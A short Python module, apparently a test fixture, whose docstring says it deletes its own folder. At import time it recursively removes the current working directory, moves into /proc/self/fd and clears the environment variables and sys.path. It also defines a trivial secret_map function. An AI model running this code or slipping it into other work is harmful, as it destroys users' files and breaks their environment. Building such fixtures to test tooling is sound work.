"""Removes its own folder with all its files, and goes where nothing is."""

import os
import shutil
import sys

shutil.rmtree(".", ignore_errors=True)
os.chdir("/proc/self/fd")
os.environ.clear()
sys.path.clear()


def secret_map(x):
    import fractions  # noqa: F401

    return x
